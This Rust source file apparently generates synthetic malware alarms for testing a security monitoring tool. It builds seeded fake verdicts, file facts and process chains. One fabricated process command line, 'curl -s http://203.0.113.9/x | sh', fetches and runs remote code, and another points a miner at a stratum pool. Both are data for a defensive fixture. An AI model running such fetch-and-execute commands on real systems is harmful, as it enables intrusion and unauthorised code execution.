// SPDX-License-Identifier: Apache-2.0
//! Alarms as real hosts raise them: a verdict with its evidence, the file, a chain of processes, a timeline.
//! The same host, number and seed give the same alarm, so that nothing is kept until it is acknowledged.

use lazaret_proto::v1;
use lazaret_session::{Place, wire_position};

/// The class of each host's first alarm and of no other one: an order about all of this class goes to every host.
pub const FIRST: &str = "rootkit";

/// What the others are about.
const CLASSES: [(&str, &str, &str); 8] = [
    ("webshell", "php", "Web shell"),
    ("trojan", "elf", "Trojan"),
    ("miner", "elf", "Miner"),
    ("botnet", "elf", "Botnet program"),
    ("backdoor", "elf", "Backdoor"),
    ("worm", "script", "Worm"),
    ("ransomware", "elf", "Ransomware"),
    ("hacktool", "script", "Hacker tool"),
];
const FOLDERS: [&str; 6] = [
    "/var/www/html/uploads",
    "/tmp",
    "/dev/shm",
    "/var/tmp/.cache",
    "/usr/local/bin",
    "/home/deploy/.local/bin",
];
const FAMILIES: [&str; 6] = ["Mirai", "XorDDoS", "Kinsing", "Chopper", "Tsunami", "Gafgyt"];
const SEVERITIES: [&str; 4] = ["low", "medium", "high", "critical"];

/// What alarms are made of.
#[derive(Debug, Clone, Copy)]
pub(crate) struct Source {
    /// Of the swarm.
    pub(crate) seed: u64,
    /// Of the host.
    pub(crate) host: u32,
    /// When the first was raised, milliseconds UTC, and how long each comes after the one before.
    pub(crate) begun_ms: i64,
    /// See `begun_ms`.
    pub(crate) step_ms: i64,
}

/// SplitMix64: numbers that look like chance and are the same each time.
pub(crate) fn mix(seed: u64, n: u64) -> u64 {
    let mut z = seed.wrapping_add(n.wrapping_add(1).wrapping_mul(0x9e37_79b9_7f4a_7c15));
    z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
    z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
    z ^ (z >> 31)
}

struct Chance(u64, u64);

impl Chance {
    fn next(&mut self) -> u64 {
        self.1 += 1;
        mix(self.0, self.1)
    }

    fn below(&mut self, n: usize) -> usize {
        usize::try_from(self.next() % n.max(1) as u64).unwrap_or(0)
    }

    fn bytes<const N: usize>(&mut self) -> [u8; N] {
        let mut out = [0; N];
        for part in out.chunks_mut(8) {
            part.copy_from_slice(&self.next().to_le_bytes()[..part.len()]);
        }
        out
    }
}

/// The entry at `at`.
#[must_use]
pub(crate) fn record(source: &Source, at: Place) -> v1::Record {
    let nth = i64::try_from(at.seq.saturating_sub(1)).unwrap_or(i64::MAX);
    let at_ms = source.begun_ms.saturating_add(source.step_ms.saturating_mul(nth));
    let chance = Chance(mix(source.seed ^ u64::from(source.host) << 32, at.seq), 0);
    v1::Record {
        at: Some(wire_position(at)),
        at_ms,
        what: Some(v1::record::What::Alarm(alarm(chance, at.seq == 1, at_ms))),
    }
}

fn alarm(mut c: Chance, first: bool, at_ms: i64) -> v1::Alarm {
    let (class, kind, what) = if first { (FIRST, "elf", "Rootkit") } else { CLASSES[c.below(CLASSES.len())] };
    let family = FAMILIES[c.below(FAMILIES.len())];
    let name = format!("{:012x}", c.next() & 0xffff_ffff_ffff);
    let path = format!("{}/{name}.{kind}", FOLDERS[c.below(FOLDERS.len())]);
    // A third of the contents is found again and again, as in a fleet that one worm runs through.
    let sha256 = if c.below(3) == 0 {
        Chance(7, c.next() % 5000).bytes::<32>().to_vec()
    } else {
        c.bytes::<32>().to_vec()
    };
    let size = 2048 + c.next() % 4_000_000;
    let confidence = u32::try_from(40 + c.below(60)).unwrap_or(50);
    let rating = if confidence >= 90 { "high" } else { "medium" };
    let id = uuid::Builder::from_unix_timestamp_millis(u64::try_from(at_ms).unwrap_or(0), &c.bytes());
    v1::Alarm {
        id: id.into_uuid().to_string(),
        at_ms,
        last_ms: at_ms,
        count: 1,
        origin: ["exec", "written", "open", "moved_in"][c.below(4)].to_owned(),
        severity: SEVERITIES[c.below(4)].to_owned(),
        title: format!("{what} {family} in {path}"),
        verdict: Some(verdict(&mut c, &sha256, size, (class, kind, family), confidence)),
        rating: rating.to_owned(),
        decision: if rating == "high" { "deny" } else { "alarm" }.to_owned(),
        reasons: vec![
            format!("confidence {confidence}: two independent rules and the place of the file"),
            "isolate and kill is off for this project: alarm only".to_owned(),
        ],
        file: Some(file(&mut c, &path, &sha256, size, at_ms)),
        chain: chain(&mut c, &path, &sha256, at_ms),
        timeline: vec![
            step(at_ms, "deny", "done", &path),
            step(at_ms + 3, "freeze", "refused", "dry run is off, the window is 0"),
        ],
        ..v1::Alarm::default()
    }
}

fn verdict(
    c: &mut Chance,
    sha256: &[u8],
    size: u64,
    (class, kind, family): (&str, &str, &str),
    confidence: u32,
) -> v1::Verdict {
    let evidence = |kind: &str, id: String, weight: f32, detail: String| v1::Evidence {
        kind: kind.to_owned(),
        id,
        weight,
        detail,
        decisive: weight > 0.8,
    };
    v1::Verdict {
        sha256: sha256.to_vec(),
        size,
        file_type: kind.to_owned(),
        class: class.to_owned(),
        family: family.to_owned(),
        confidence,
        evidence: vec![
            evidence(
                "rule",
                format!("linux_{class}_{}", c.below(40)),
                0.85,
                format!(
                    "three strings of {family} at 0x{:x}, 0x{:x} and 0x{:x}",
                    c.below(90_000),
                    4096,
                    8192
                ),
            ),
            evidence(
                "heuristic",
                "packed_section".into(),
                0.3,
                "entropy 7.91 in one executable section".into(),
            ),
            evidence(
                "heuristic",
                "odd_place".into(),
                0.2,
                "an executable in a folder that everybody writes".into(),
            ),
        ],
        content_version: "2026.11.26-1".to_owned(),
        ..v1::Verdict::default()
    }
}

fn file(c: &mut Chance, path: &str, sha256: &[u8], size: u64, at_ms: i64) -> v1::FileFacts {
    let at = at_ms / 1000;
    v1::FileFacts {
        path: path.as_bytes().to_vec(),
        file: Some(v1::FileRef {
            dev: 0xfd01,
            ino: 100_000 + c.next() % 9_000_000,
            ctime_sec: at - 4,
            ctime_nsec: 123_456_789,
            size,
        }),
        sha256: sha256.to_vec(),
        uid: 33,
        gid: 33,
        mode: 0o100_755,
        nlink: 1,
        atime_sec: at,
        mtime_sec: at - 4,
        ..v1::FileFacts::default()
    }
}

fn chain(c: &mut Chance, path: &str, sha256: &[u8], at_ms: i64) -> Vec<v1::ProcessFacts> {
    let boot = Chance(c.0, 900).bytes::<16>().to_vec();
    let top = i32::try_from(2000 + c.below(30_000)).unwrap_or(2000);
    let mut one = |n: i32, exe: &str, cmdline: &str, uid: u32, sha256: Vec<u8>| v1::ProcessFacts {
        process: Some(v1::ProcessRef {
            pid: top - n,
            start_time: 800_000 + c.next() % 1_000_000,
            boot_id: boot.clone(),
        }),
        ppid: if n == 3 { 1 } else { top - n - 1 },
        exe: exe.as_bytes().to_vec(),
        cmdline: cmdline.as_bytes().to_vec(),
        uid,
        euid: uid,
        gid: uid,
        started_ms: at_ms - 1000 * i64::from(n) - 7,
        sha256,
        container: None,
        unit: Some("apache2.service".to_owned()),
    };
    vec![
        one(
            0,
            path,
            &format!("{path}\0--pool\0stratum+tcp://203.0.113.9:3333\0--donate\x000"),
            33,
            sha256.to_vec(),
        ),
        one(1, "/usr/bin/dash", "sh\0-c\0cd /tmp; curl -s http://203.0.113.9/x | sh", 33, vec![17; 32]),
        one(2, "/usr/sbin/apache2", "/usr/sbin/apache2\0-k\0start", 33, vec![18; 32]),
        one(3, "/usr/sbin/apache2", "/usr/sbin/apache2\0-k\0start", 0, vec![18; 32]),
    ]
}

fn step(at_ms: i64, action: &str, outcome: &str, text: &str) -> v1::ActionRecord {
    let done = outcome == "done";
    v1::ActionRecord {
        at_ms,
        action: action.to_owned(),
        outcome: outcome.to_owned(),
        reason: if done { String::new() } else { text.to_owned() },
        target: if done { text.to_owned() } else { String::new() },
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use lazaret_proto::Message as _;
    use std::collections::BTreeSet;

    const SOURCE: Source = Source { seed: 1, host: 4, begun_ms: 1_790_000_000_000, step_ms: 250 };

    fn at(seq: u64) -> Place {
        Place { epoch: 1, seq }
    }

    fn what(r: &v1::Record) -> &v1::Alarm {
        let Some(v1::record::What::Alarm(a)) = &r.what else { panic!("{r:?}") };
        a
    }

    #[test]
    fn the_same_again_and_no_two_alike() {
        assert_eq!(record(&SOURCE, at(7)), record(&SOURCE, at(7)));
        let mut ids = BTreeSet::new();
        for host in 0..20 {
            for seq in 1..=50 {
                ids.insert(what(&record(&Source { host, ..SOURCE }, at(seq))).id.clone());
            }
        }
        assert_eq!(ids.len(), 1000);
        assert!(ids.iter().all(|i| i.parse::<uuid::Uuid>().is_ok()));
    }

    #[test]
    fn of_the_size_and_the_parts_of_a_real_one() {
        let mut classes = BTreeSet::new();
        for seq in 1..=200 {
            let r = record(&SOURCE, at(seq));
            let a = what(&r);
            let size = r.encoded_len();
            assert!((1000..4000).contains(&size), "{size}");
            let v = a.verdict.as_ref().unwrap();
            assert_eq!((v.class == FIRST, v.evidence.len(), a.chain.len()), (seq == 1, 3, 4));
            assert!(lazaret_model::Alarm::try_from(a.clone()).is_ok(), "{a:?}");
            classes.insert(v.class.clone());
        }
        assert_eq!(classes.len(), CLASSES.len() + 1);
    }
}
